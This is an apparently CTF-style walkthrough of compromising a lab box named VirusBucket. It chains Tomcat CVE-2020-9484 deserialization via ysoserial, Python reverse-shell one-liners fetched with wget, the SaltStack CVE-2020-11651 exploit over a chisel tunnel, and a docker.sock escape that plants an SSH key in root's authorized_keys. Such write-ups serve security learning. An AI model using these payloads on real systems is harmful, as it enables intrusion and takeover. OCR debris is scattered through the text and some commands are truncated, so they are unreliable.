8 minute read



  • Using Java Deserialization in Apache Tomcat (CVE-2020–9484) to get a reverse shell on the box
  • Exploiting Vulnerability in SaltStack(CVE-2020–11651) leading to code execution which gave us a shell on docker container
  • Using docker.sock socket to create a new docker container with root file system mounted and writing our public key on root’s authorized_keys file

Port Scan

$:~ nmap -sC -sV -oN nmap/initial -v
Nmap scan report for
Host is up (0.099s latency).
Not shown: 998 closed ports
22/tcp   open  ssh     OpenSSH 8.2p1 Ubuntu 4 (Ubuntu Linux; protocol 2.0)
8080/tcp open  http    Apache Tomcat 9.0.27
| http-methods:
|_  Supported Methods: OPTIONS GET HEAD POST
|_http-open-proxy: Proxy mightbe redirecting requests
|_http-title: VirusBucket
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Looking at the results, we only have two ports open. As ssh does not have that much of an attack surface, Let’s see the http service running on port 8080.

HTTP (PORT 8080)


On /service


This is a good sign. We are able to upload file with any extension without even authenticating. If we can know where these files are being uploaded, we can upload a php reverse shell and browse it from the browser which will lead to code execution.So while running gobuster on the background, I went to play with this file uploading functionality. As they said they support any file, I tried uploading files with multiple extensions and size and analysed in Burp suite.

Uploading a simple shell.php


It gets uploaded, but we don’t know where the file is being stored on the server.

Uploading linpeas.sh


Uploading linpeas triggered an error, which is revealing the path on the server. There might be a mechanism that the server changes the name of the uploaded files.

So I searched the first line of the error to find out what might be causing this error and I found this post explaining that this error is triggered if the max upload size is exceeded by the uploaded file.

Uploading a file with empty name


With empty filename, it tried to write a file in a directory which throws another exception revealing the actual place in the server where uploaded files are stored.

Now while searching for vulnerabilities on the Apache Tomat related to file uploading functionality, I came across this article which explains how we can achieve remote code execution by deserialization. But there were some prerequisites for an Apache Tomcat to be exploitable.



We knew we can upload file and have control over the filename and the location it is being uploaded to.

Java Deserialization was not my strong suit as I had very less knowledge on the topic. But I thought to give this exploit a try.


For this exploit to work, first we have to generate a serialized object with our payload using ysoserial. Then we have to upload this file, naming it something that ends on .session. And totrigger the code execution, we have to request a page, with our cookie JSESSIONID’s value changed to ../../../../../../../path/filename

For the payload generation with ysoserial, I tried multiple gadgets and CommonsCollection2 seem to work.

$:~ java -jar ysoserial-master-6eca5bc740-1.jar CommonsCollections2 'ping -c 1' > ping.session

Listening on our box

$:~ sudo tcpdump -i tun0 icmp

Uploading file


Triggering the code execution


We got an response with code 500 which is a good sign cause that’s what the blog post said.

And looking at the result of tcpdump, we got the response back.


Now we know that we have code execution, lets try and get a reverse shell. As I was having problem with one liner reverse shell code, I used wget to fetch the script with code for our reverse shell and another payload to execute that script.

Content of shell.sh

python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("",9003));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'

python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("",9003));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'

For reliability, I have used multiple payload using python2 and python3.

Creating payload with ysoserial

$:~ java -jar ysoserial-master-6eca5bc740-1.jar CommonsCollections2 'wget -O /dev/shm/shell.sh' > payload.sessionUploading the file


Starting python HTTP server on our local box

$:~ sudo python3 -m http.server 80
Serving HTTP on port 80 ( ...

Triggering the payloadOn python http server, we get a hit.

$:~ sudo python3 -m http.server 80
Serving HTTP on port 80 ( ... - - [04/Sep/2020 11:41:04] "GET /shell.sh HTTP/1.1" 200

Creating another payload

$:~ java -jar ysoserial-master-6eca5bc740-1.jar CommonsCollections2 'bash /dev/shm/shell.sh' > payload.session

Uploading the next payload to execute the reverse shell that we uploaded earlier


Listening on port 9003 on local box

$:~ nc -nvlp 9003
Listening on [] (family 2, port 9003)
Listening on 9003

Triggering the payload


Now we get a shell back.

$:~ nc -nvlp 9003
Listening on [] (family 2, port 9003)
Listening on 9003
Connection received on 55876
/bin/sh: 0: can't access tty; job control turned off
$ whoamiNow lets get a proper shell with auto completion.

$ python3 -c "import pty;pty.spawn('/bin/bash')"

Hit CRTL+z to background the current process and on local box type

$:~ stty raw -echo

and type fg and hit enter twice and on the reverse shell export the TERM as xterm.

tomcat@VirusBucket:/opt/tomcat$ export TERM=xterm

Now the shell looks good and we can read user.txt file.


Privilege Escalation

After I ran linpeas, I found of couple of interesting things.

Few extra ports listening on the local interface

tomcat@VirusBucket:/opt/tomcat$ ss -lta
State      Recv-Q Send-Q      Local Address:Port     Peer Address:Port  Process
LISTEN     0      4096  *
LISTEN     0      4096*
LISTEN     0      128      *
LISTEN     0      4096  *LISTEN     0      4096  *
LISTEN     0      4096  *

And instance of adocker container

tomcat@VirusBucket:/opt/tomcat$ ifconfig docker0
docker0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu1500
        inet  netmask  broadcast
        inet6 fe80::42:7cff:fe88:fe82  prefixlen 64  scopeid 0x20<link>
        ether 02:42:7c:88:fe:82  txqueuelen 0  (Ethernet)
        RX packets 134722  bytes 5394356 (5.3 MB)
        RX errors 0  dropped 0  overruns 0  frame 0
        TX packets 136282  bytes 10036941 (10.0 MB)
        TX errors 0  dropped 0 overruns 0  carrier 0  collisions 0

Searching the ports that were open, I found Salt Stackoften uses port 4505 and 4506.Salt (sometimes referred to as SaltStack) is Python-based, open-source software for event-driven IT automation, remote task execution, and configuration management. It follows the client server architecture where the server called master can execute commands on the the clients (minions).

And with further research, I found a recent CVE on SaltStack and this proof of concept exploit in GitHub.

Lets us download the exploit on to our box.

$:~ git clone https://github.com/jasperla/CVE-2020-11651-poc

And also we need salt for this exploit to work. So let’s install that with pip3.

$:~ sudo pip3 install salt

And if we look at the arguments


This exploit connects to port 4506, but the port is only listening on the box’s local interface. So lets use Chisel for port forwarding. First lets download the binary of chisel on our local box and download it from the box using wget.

tomcat@VirusBucket:/dev/shm/.test$ wget
--2020-09-04 07:17:47--
Connecting to connected.
HTTP request sent, awaiting response... 200 OK
Length: 7364608 (7.0M) [application/octet-stream]
Saving to: 'chisel'
chisel              100%[===>]   7.02M  2.18MB/s    in 3.2s
2020-09-04 07:17:51 (2.18 MB/s) - 'chisel' saved [7364608/7364608]

On our local box

$:~ ./chisel server -p 1880 --reverse

On the server

$:~ ./chisel client R:4506:

Running the exploit and we get the ping back. COOL!!Getting a reverse shell with the previous shell.sh script


And we get a shell as root but on a docker container.

Content on the home directory

root@2d24bf61767c:~# ls -la
total 28
drwx--- 1 root root 4096 Jun 30 12:45 .
drwxr-xr-x 1 root root 4096 Jun 30 12:33 ..
-rw--- 1 root root 1336 Jun 30 16:12 .bash_history
-rw-r--r-- 1 root root  570 Jan 31  2010 .bashrc
-rw-r--r-- 1 root root  148 Aug 17  2015 .profile
drwxr-xr-x 2 root root 4096 May  3 22:21 .ssh
-rw-r--r-- 1 root root  137 Jun 30 12:41 todo.txt


root@2d24bf61767c:~# cat todo.txt
- Add saltstack support to auto-spawn sandbox dockers through events.
- Integrate changes to tomcat and make the service open to public.



One interesting thing that I found on .bash_history file is the use of docker.sock socket to get the images of the docker containers.

And looking at /var/run/docker.sock, we can see it is present.

root@2d24bf61767c:~# ls -la /var/run/docker.sock
srw-rw---- 1 root 118 0 Sep  4 07:12 /var/run/docker.sock

As docker.sock is the UNIX socket that Docker daemon is listening to and it the main entry point for Docker API, it is not so good practice to mount this socket inside docker containers. Now we could basically use curl request using the socket to create new containers on the host box.

I found this amazing post which shows how we can mount the root file system to a new container and also execute code on the created docker container, using the socket docker.sock.

Let us create a new docker container with the same image id that we are in and mountthe root file system in the new created container.


Creating a new docker container

$:~ curl -X POST -H "Content-Type: application/json" --unix-socket /var/run/docker.sock http://localhost/containers/create -d '{"Detach":true,"AttachStdin":false,"AttachStdout":true,"AttachStderr":true,"Tty":false,"Image":"188a2704d8b0","HostConfig":{"Binds": ["/:/var/tmp"]},
"sh", "-c", "echo my_pub_key >> /var/tmp/root/.ssh/authorized_keys"

So, I will try to create a new container and write the authorized_keys file with my public key.

Generating private/public key pairs on my local box

$:~ ssh-keygen -f id_rsa

Creating a docker container with commands to write /root/.ssh/authorized_keys file when the container starts

root@2d24bf61767c:~# curl -X POST -H "Content-Type: application/json" --unix-socket /var/run/docker.sock [http://localhost/containers/create](http://v1.27/containers/create) -d '{"Detach":
true,"AttachStdin":false,"AttachStdout":true,"AttachStderr":true,"Tty":false,"Image":"188a2704d8b0","HostConfig":{"Binds": ["/:/var/tmp"]},
, "-c", "while true;do echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDeB05i2a3qY8t9hMgkH4R5+s/LFhK30xGhIjPm914tqUG1B2NqPTA5zlpG2YeT0v5yty039FfEA1JvvHzsx+PZgcgZXjvBxORkjti03PrE7RU4BInajtZVTIvup1QGG33KjeVuU55YyA2u2uNwELW1oeNKs1PVekcYJxBygIhHniQ5OJS0Tv2tIfxz80K1DymnlYSQWdSEYN+xUvGwxMCdltF5FEPUpDarK1a252QOLjckzft+vcT2F3GBOAC5wTmIdu6I8r5TSyuazbZAlcNxJfs6xsFRuf9wI40cbg53bCP9eL9EMt7taXKAHz1+DytZh4HpVptLrz2blDQU+sIDwOjaVSlTMyyroHMTdzVyNFbMLw1xZF+1oQkPVeiDe1ECWgE7+SWLiOBu8yn2xXPkstOM2ZB2Qy8sGnLNWGhmvcgDuvmmahppUhh+bJvfPtoIwAxtdST2geGZ4+9girh3hJEn9cZMkdo4s2Et9smWgpFAJpispoNSEs= >>
/var/tmp/root/.ssh/authorized_keys;sleep 10; done"

Starting the docker instance that we just created using the ID given above

root@2d24bf61767c:~# curl -X POST -H "Content-Type:application/json" --unix-socket /var/run/docker.sock http://localhost/containers/808e1ab8dfe7d7934dd705b6644f16a4fe6c02dfc18e6bf603d43368a29a3469/start

